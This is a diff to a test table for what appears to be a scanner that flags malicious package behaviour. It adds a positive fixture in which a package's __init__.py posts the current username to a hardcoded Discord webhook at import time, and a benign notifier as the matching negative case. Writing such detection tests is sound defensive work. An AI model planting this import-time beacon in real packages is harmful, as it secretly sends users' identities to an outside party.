@@ -406,6 +406,17 @@ POSITIVE: dict[str, Positive] = {
         }),
         "pkg/scripts/setup_env.sh", 3, "import",
     ),
+    "beacon/webhook-named-in-a-constant-posted-at-import": Positive(
+        "beacon", C,
+        W({"pkg/__init__.py": """
+            import getpass
+            import requests
+
+            WEBHOOK = "https://discord.com/api/webhooks/1234567890/token-goes-here"
+            requests.post(WEBHOOK, json={"content": getpass.getuser()})
+        """}),
+        "pkg/__init__.py", 5, "import",
+    ),
     "beacon/webhook-request-at-import": Positive(
         "beacon", C,
         W({"pkg/__init__.py": """
@@ -1406,6 +1417,18 @@ NEGATIVE: dict[str, Negative] = {
                 return requests.get("https://api.explorer.example.com/v2/api", params=params)
 
             SOURCES = {"mainnet": _fetch_source}
+        """}),
+    ),
+    "beacon/notifier-posts-to-the-webhook-it-is-given": Negative(
+        # A notification library: the webhook is the caller's, handed in when called.
+        "beacon",
+        W({"pkg/notify.py": """
+            import requests
+
+            DEFAULT_TIMEOUT = 10
+
+            def send(webhook_url, text):
+                return requests.post(webhook_url, json={"content": text}, timeout=DEFAULT_TIMEOUT)
         """}),
     ),
     "env-dump/own-prefix-in-a-start-up-line": Negative(
